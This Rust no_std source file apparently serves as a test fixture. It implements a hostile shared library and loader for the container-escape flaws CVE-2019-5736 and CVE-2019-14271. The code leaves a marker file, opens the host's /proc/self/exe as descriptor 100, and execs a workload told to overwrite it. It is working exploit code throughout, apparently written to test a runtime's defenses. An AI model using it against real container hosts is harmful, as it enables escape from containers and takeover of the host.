//! A hostile library, and a hostile loader of libraries: an image puts it where a program of the host that changed into the
//! image's root would look for its own (CVE-2019-5736, CVE-2019-14271).
//!
//! Whoever loads it leaves the file `/loaded/mark`, and becomes the workload program, with the program that it was before
//! open as descriptor 100. It has no library of its own: nothing is there to load one.
#![no_std]

use core::arch::{asm, global_asm};
use core::ffi::CStr;

/// As a library it is begun here.
#[used]
#[unsafe(link_section = ".init_array")]
static BEGIN: extern "C" fn() = act;

// As a loader it is begun by the kernel, which aligns the stack otherwise than a caller does.
#[cfg(target_arch = "x86_64")]
global_asm!(".globl hostile", "hostile:", "and rsp, -16", "call {act}", act = sym act);
#[cfg(target_arch = "aarch64")]
global_asm!(".globl hostile", "hostile:", "bl {act}", act = sym act);

extern "C" fn act() {
    const HERE: usize = -100_isize as usize;
    const CREATE: usize = 0o101;
    let at = |text: &CStr| text.as_ptr() as usize;
    call(number::OPENAT, [HERE, at(c"/loaded/mark"), CREATE, 0o666]);
    let program = call(number::OPENAT, [HERE, at(c"/proc/self/exe"), 0, 0]);
    call(number::DUP3, [program, 100, 0, 0]);
    let arguments = [at(c"/workload"), at(c"overwrite"), at(c"100"), 0];
    call(number::EXECVE, [arguments[0], arguments.as_ptr() as usize, 0, 0]);
    call(number::EXIT, [9, 0, 0, 0]);
}

#[cfg(target_arch = "x86_64")]
fn call(number: usize, arguments: [usize; 4]) -> usize {
    let result;
    // SAFETY: the arguments are numbers, and addresses of strings and lists that live as long as the process.
    unsafe {
        asm!(
            "syscall",
            inlateout("rax") number => result,
            in("rdi") arguments[0], in("rsi") arguments[1], in("rdx") arguments[2], in("r10") arguments[3],
            out("rcx") _, out("r11") _,
        );
    }
    result
}

#[cfg(target_arch = "aarch64")]
fn call(number: usize, arguments: [usize; 4]) -> usize {
    let result;
    // SAFETY: the arguments are numbers, and addresses of strings and lists that live as long as the process.
    unsafe {
        asm!(
            "svc 0",
            in("x8") number,
            inlateout("x0") arguments[0] => result,
            in("x1") arguments[1], in("x2") arguments[2], in("x3") arguments[3],
        );
    }
    result
}

#[cfg(target_arch = "x86_64")]
mod number {
    pub const OPENAT: usize = 257;
    pub const DUP3: usize = 292;
    pub const EXECVE: usize = 59;
    pub const EXIT: usize = 60;
}

#[cfg(target_arch = "aarch64")]
mod number {
    pub const OPENAT: usize = 56;
    pub const DUP3: usize = 24;
    pub const EXECVE: usize = 221;
    pub const EXIT: usize = 93;
}

#[panic_handler]
fn panic(_: &core::panic::PanicInfo<'_>) -> ! {
    loop {}
}
